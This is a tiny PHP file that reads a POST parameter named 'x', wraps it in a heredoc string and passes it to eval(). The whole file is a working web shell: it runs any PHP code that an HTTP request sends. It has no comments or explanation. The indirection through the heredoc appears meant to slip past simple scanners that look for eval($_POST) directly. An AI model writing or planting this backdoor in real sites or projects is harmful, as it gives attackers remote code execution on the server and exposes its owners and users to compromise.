<?php
$x = $_POST['x'];
$y = <<<EOT
$x
EOT;
eval($y);
